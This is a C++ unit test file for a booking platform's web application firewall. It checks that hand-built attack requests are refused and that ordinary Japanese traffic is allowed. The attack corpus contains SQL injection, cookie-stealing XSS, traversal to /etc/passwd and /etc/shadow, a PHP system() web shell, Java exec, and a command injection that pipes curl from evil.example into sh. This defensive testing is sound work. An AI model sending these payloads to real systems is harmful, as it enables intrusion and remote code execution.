// The firewall's rule set over requests built by hand: an attack corpus in every part of a
// request is refused; the platform's own traffic, Japanese text included, is not.

#include "http/middleware/waf.hpp"

#include <gtest/gtest.h>

#include <algorithm>

using namespace yoyaku;
using namespace yoyaku::http;

namespace {

const Waf& blocking() {
    static const auto waf = [] {
        auto w = Waf::load({});
        if (!w) throw std::runtime_error(w.error().message + " " + w.error().detail);
        return std::move(*w);
    }();
    return *waf;
}

Request make(
    std::string method,
    std::string path,
    std::string query = "",
    std::string body = "",
    std::vector<Headers::Field> extra = {}
) {
    Request r;
    r.method = std::move(method);
    r.path = std::move(path);
    r.query = std::move(query);
    r.client_address = "203.0.113.7";
    r.request_id = "waf-test";
    r.headers.add("Host", "booking.example.jp");
    r.headers.add("User-Agent", "Mozilla/5.0 (X11; Linux x86_64) Chrome/120.0");
    r.headers.add("Accept", "application/json");
    r.headers.add("Accept-Language", "ja,en;q=0.8");
    for (auto& f : extra) r.headers.set(f.name, std::move(f.value));
    if (!body.empty()) {
        r.headers.add("Content-Type", "application/json");
        r.headers.add("Content-Length", std::to_string(body.size()));
        r.body = std::move(body);
    }
    return r;
}

bool has_rule(const WafVerdict& v, std::string_view id) {
    return std::find(v.rules.begin(), v.rules.end(), id) != v.rules.end();
}

}  // namespace

TEST(Waf, RefusesAttacksInTheQueryTheBodyAndTheHeaders) {
    struct Case {
        const char* what;
        Request req;
        const char* rule;  // one rule that must be among the matches
    };
    const std::vector<Case> corpus = {
        {"SQL injection, query",
         make("GET", "/api/v1/bookings", "q=1%27%20OR%20%271%27%3D%271"),
         "942100"},
        {"SQL injection, body",
         make(
             "POST",
             "/api/v1/public/t/demo/bookings",
             "",
             R"({"name":"x' UNION SELECT password FROM accounts--"})"
         ),
         "942100"},
        {"XSS, query",
         make("GET", "/api/v1/public/t/demo/offerings", "from=%3Cscript%3Ealert(1)%3C/script%3E"),
         "941100"},
        {"XSS, body",
         make(
             "POST",
             "/api/v1/public/t/demo/bookings",
             "",
             R"({"notes":"<img src=x onerror=alert(document.cookie)>"})"
         ),
         "941100"},
        {"XSS, header",
         make(
             "GET",
             "/api/v1/public/status",
             "",
             "",
             {{"Referer", "https://x.example/<script>alert(1)</script>"}}
         ),
         "941110"},
        {"path traversal, path", make("GET", "/assets/..%2f..%2f..%2fetc%2fpasswd"), "930100"},
        {"path traversal, body",
         make("PUT", "/api/v1/settings", "", R"({"logo":"../../../../etc/shadow"})"),
         "930120"},
        {"command injection, body",
         make("POST", "/api/v1/offerings", "", R"({"title":"x; cat /etc/passwd"})"),
         "932100"},
        {"command injection, query",
         make("GET", "/api/v1/bookings", "q=%24%28curl%20evil.example%7Csh%29"),
         "932100"},
        {"scanner user agent",
         make("GET", "/", "", "", {{"User-Agent", "sqlmap/1.7.2#stable"}}),
         "913100"},
        {"scanner user agent (nikto)",
         make("GET", "/", "", "", {{"User-Agent", "Mozilla/5.00 (Nikto/2.1.6)"}}),
         "913100"},
        {"PHP injection, body",
         make(
             "POST",
             "/api/v1/public/t/demo/bookings",
             "",
             R"({"notes":"<?php system($_GET['c']); ?>"})"
         ),
         "933100"},
        {"Java code injection, body",
         make(
             "POST",
             "/api/v1/public/t/demo/bookings",
             "",
             R"j({"notes":"java.lang.Runtime.getRuntime().exec('id')"})j"
         ),
         "944130"},
    };
    for (const auto& c : corpus) {
        const auto v = blocking().inspect(c.req);
        EXPECT_TRUE(v.refused) << c.what;
        EXPECT_TRUE(has_rule(v, c.rule))
            << c.what << ": rules " << ::testing::PrintToString(v.rules);
        EXPECT_GE(v.score, 5) << c.what;
    }
}

TEST(Waf, PassesThePlatformsOwnTrafficJapaneseIncluded) {
    const std::vector<Request> benign = {
        make("GET", "/api/v1/public/t/demo/offerings", "from=2026-12-01&to=2026-12-31&lang=ja"),
        make(
            "POST",
            "/api/v1/public/t/demo/bookings",
            "",
            R"({"occurrence_id":12,"name":"O'Brien様 同伴 2名","email":"obrien@example.jp",)"
            R"("phone":"090-1234-5678","notes":"窓際の席をお願いします。卵アレルギーがあります (軽度)。",)"
            R"("answers":{"来店回数":"初めて","ご要望":"子ども用の椅子 & ベビーカー置き場"}})"
        ),
        make(
            "PUT",
            "/api/v1/offerings/4",
            "",
            R"j({"title":"ヨガ体験 60分 - 初心者向け","description":"動きやすい服装でお越しください。\n)j"
            R"j(タオル・お水をご持参ください。料金: 1,500円 (税込)","capacity":12})j"
        ),
        make(
            "POST",
            "/api/v1/session",
            "",
            R"({"email":"boss@alpha.example","password":"correct horse battery staple!"})"
        ),
        make(
            "POST",
            "/api/v1/notices",
            "",
            R"({"title":"メンテナンスのお知らせ","body":"12月10日 2:00〜4:00 (JST) はご利用いただけません。"})"
        ),
        make("GET", "/api/v1/bookings", "q=%E7%94%B0%E4%B8%AD&status=confirmed&page=2"),
        make("GET", "/t/demo/manage", "ref=YK-7Q2M-4XHD"),
    };
    for (const auto& r : benign) {
        const auto v = blocking().inspect(r);
        EXPECT_FALSE(v.refused) << r.method << " " << r.path << ": rules "
                                << ::testing::PrintToString(v.rules);
    }
}

TEST(Waf, ABodyItCannotParseIsRefusedAsBadInput) {
    // What ModSecurity's JSON parser cannot read it cannot inspect.
    const auto v = blocking().inspect(make("POST", "/api/v1/offerings", "", R"({"title":"x",)"));
    EXPECT_TRUE(v.refused);
    EXPECT_TRUE(v.unreadable_body);
    EXPECT_FALSE(blocking()
                     .inspect(make("POST", "/api/v1/offerings", "", R"({"title":"x"})"))
                     .unreadable_body);
}

TEST(Waf, ExclusionsAreNarrowARouteAndAField) {
    // A webhook's URL may name an IP address; the same value elsewhere is still an attack.
    const auto body = R"({"url":"http://192.0.2.10/hook","events":["booking.created"]})";
    EXPECT_FALSE(blocking().inspect(make("POST", "/api/v1/webhooks", "", body)).refused);
    EXPECT_FALSE(blocking().inspect(make("PUT", "/api/v1/webhooks/9", "", body)).refused);
    EXPECT_TRUE(blocking().inspect(make("POST", "/api/v1/offerings", "", body)).refused);
    EXPECT_TRUE(blocking()
                    .inspect(make(
                        "POST",
                        "/api/v1/webhooks",
                        "",
                        R"({"url":"x","events":"<script>alert(1)</script>"})"
                    ))
                    .refused);
    // LINE's LIFF login comes back to the LIFF page naming the page: there only, in that field.
    const std::string back =
        "code=abc&state=s&liffRedirectUri=http%3A%2F%2F192.0.2.10%2Ft%2Fa%2Fliff";
    EXPECT_FALSE(blocking().inspect(make("GET", "/t/demo/liff", back)).refused);
    EXPECT_TRUE(blocking().inspect(make("GET", "/t/demo/me", back)).refused);
    EXPECT_TRUE(blocking()
                    .inspect(make("GET", "/t/demo/liff", "code=http%3A%2F%2F192.0.2.10%2Fx.php"))
                    .refused);
}

TEST(Waf, DetectModeReportsWhatBlockModeWouldRefuse) {
    WafOptions o;
    o.mode = WafMode::detect;
    auto detect = Waf::load(o);
    ASSERT_TRUE(detect) << detect.error().detail;
    const auto attack = make("GET", "/api/v1/bookings", "q=%3Cscript%3Ealert(1)%3C/script%3E");
    const auto v = (*detect)->inspect(attack);
    EXPECT_TRUE(v.refused);
    EXPECT_TRUE(has_rule(v, "941100"));
    EXPECT_EQ((*detect)->mode(), WafMode::detect);

    o.mode = WafMode::off;
    auto off = Waf::load(o);
    ASSERT_TRUE(off);
    EXPECT_FALSE((*off)->inspect(attack).refused);
}

TEST(Waf, ParanoiaAndThresholdChangeWhatIsRefused) {
    // One warning-level match (a numeric Host, 3 points) passes at the default threshold…
    const auto numeric_host = make("GET", "/api/v1/public/status", "", "", {{"Host", "192.0.2.1"}});
    const auto v = blocking().inspect(numeric_host);
    EXPECT_FALSE(v.refused);
    // …and is refused where the operator set the threshold to 3.
    WafOptions strict;
    strict.anomaly_threshold = 3;
    auto w = Waf::load(strict);
    ASSERT_TRUE(w);
    EXPECT_TRUE((*w)->inspect(numeric_host).refused);
}

TEST(Waf, BadSettingsNameTheirKey) {
    WafOptions o;
    o.paranoia = 5;
    auto r = Waf::load(o);
    ASSERT_FALSE(r);
    EXPECT_EQ(r.error().field, "waf.paranoia");
    o = {};
    o.anomaly_threshold = 0;
    r = Waf::load(o);
    ASSERT_FALSE(r);
    EXPECT_EQ(r.error().field, "waf.anomaly_threshold");
    o = {};
    o.rules_dir = "/nonexistent/crs";
    r = Waf::load(o);
    ASSERT_FALSE(r);
    EXPECT_EQ(r.error().field, "waf.rules_dir");
}

TEST(Waf, ParsesItsModes) {
    EXPECT_EQ(parse_waf_mode("block"), WafMode::block);
    EXPECT_EQ(parse_waf_mode("detect"), WafMode::detect);
    EXPECT_EQ(parse_waf_mode("off"), WafMode::off);
    EXPECT_FALSE(parse_waf_mode("Block"));
    EXPECT_FALSE(parse_waf_mode(""));
}
